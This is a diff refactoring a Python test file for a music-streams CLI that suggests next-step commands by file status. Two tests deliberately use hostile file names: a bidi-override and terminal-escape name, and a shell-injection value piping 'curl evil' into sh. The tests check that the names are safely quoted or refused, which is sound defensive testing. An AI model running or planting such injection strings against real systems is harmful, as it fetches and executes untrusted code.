@@ -15,7 +15,10 @@ ID = SOURCE.source_id
 SONGS = "music-streams put SONGS.csv --reference songs"
 PUT = "mend the file, then: music-streams put FILE --key 'a b.csv'"
 LONG_AGO = "2024-06-25T12:00:00.000Z"
-STALL = 300.0
+
+
+def steps_for(found: Entry, *, is_local: bool = True) -> list[NextStep]:
+    return next_steps(found, is_local=is_local, stall_seconds=300.0)
 
 
 def entry(status: str, **more) -> Entry:
@@ -36,18 +39,12 @@ def entry(status: str, **more) -> Entry:
         ),
         (
             entry("FAILED", reason="FAILED: it broke"),
-            [
-                f"see why: music-streams logs --file {ID}",
-                f"once the cause is mended: music-streams redrive {ID}",
-            ],
+            [f"see why: music-streams logs --file {ID}", f"once the cause is mended: music-streams redrive {ID}"],
         ),
         (entry("RUNNING", updated_at="2999-01-01T00:00:00.000Z"), ["music-streams status --watch"]),
         (
             entry("PUBLISHED"),
-            [
-                "music-streams status --watch",
-                f"where its execution does not go on: music-streams redrive {ID}",
-            ],
+            ["music-streams status --watch", f"where its execution does not go on: music-streams redrive {ID}"],
         ),
         (entry("ARCHIVED", rejected={"duplicate": 3}), []),
         (
@@ -62,29 +59,27 @@ def entry(status: str, **more) -> Entry:
     ],
 )
 def test_it_names_the_command(found, steps):
-    assert [str(step) for step in next_steps(found, is_local=True, stall_seconds=STALL)] == steps
+    assert [str(step) for step in steps_for(found)] == steps
 
 
 def test_what_is_gone_is_put_again():
-    [step] = next_steps(entry("FAILED", reason="object_gone"), is_local=True, stall_seconds=STALL)
+    [step] = steps_for(entry("FAILED", reason="object_gone"))
     assert step.command == "music-streams put FILE"
 
 
 def test_on_aws_the_history_tells_why():
     failed = replace(entry("FAILED", reason="x"), execution_arn="arn:1")
-    assert next_steps(failed, is_local=False, stall_seconds=STALL)[0].command.endswith(
-        "get-execution-history --execution-arn arn:1"
-    )
+    assert steps_for(failed, is_local=False)[0].command.endswith("get-execution-history --execution-arn arn:1")
 
 
 def test_a_file_whose_name_cannot_be_typed_is_to_be_put_under_another():
     hostile = replace(entry("QUARANTINED", reason="not_csv"), source=replace(SOURCE, key="incoming/a\u202e\x1b[2J.csv"))
-    [step, *_] = next_steps(hostile, is_local=True, stall_seconds=STALL)
+    [step, *_] = steps_for(hostile)
     assert step == NextStep("mend the file and put it again, under a name that can be typed")
 
 
 def test_a_name_of_spaces_and_quotes_is_one_word_of_the_command():
     name = "x   '; curl evil|sh   '.csv"
     hostile = replace(entry("QUARANTINED", reason="not_csv"), source=replace(SOURCE, key=f"incoming/{name}"))
-    [step] = next_steps(hostile, is_local=True, stall_seconds=STALL)
+    [step] = steps_for(hostile)
     assert shlex.split(step.command) == ["music-streams", "put", "FILE", "--key", name]
